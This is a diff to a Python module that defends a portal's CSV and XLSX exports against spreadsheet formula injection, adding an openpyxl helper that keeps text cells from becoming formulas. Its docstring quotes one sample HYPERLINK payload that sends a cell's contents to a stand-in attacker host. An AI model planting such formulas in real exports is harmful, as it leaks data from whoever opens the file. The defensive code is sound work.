@@ -4,8 +4,9 @@ A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a form
 and Google Sheets: a use-case title such as `=HYPERLINK("https://evil.example/?"&A1, "Open")` would run
 in an admin's spreadsheet. As OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection),
 such text cells get a leading single quote, which spreadsheets show as text; numbers are left as they are.
-Every CSV export of the portal writes its rows through `csv_writer`; an XLSX export would call `safe_cell`
-on each cell the same way.
+Every CSV export of the portal writes its rows through `csv_writer`. An XLSX file is typed, so there a
+text cell is simply stored as text: `xlsx_append` keeps the exact characters (no quote added) and never
+lets openpyxl turn a text starting with `=` into a formula.
 """
 
 from __future__ import annotations
@@ -49,3 +50,11 @@ class SafeCsvWriter:
 
 def csv_writer(stream: _Writable) -> SafeCsvWriter:
     return SafeCsvWriter(stream)
+
+
+def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
+    """`sheet.append(row)` (an openpyxl worksheet), with every text cell stored as text, never a formula."""
+    sheet.append(list(row))
+    for cell in sheet[sheet.max_row]:
+        if cell.data_type == "f":  # openpyxl's reading of a text that starts with "="
+            cell.data_type = "s"
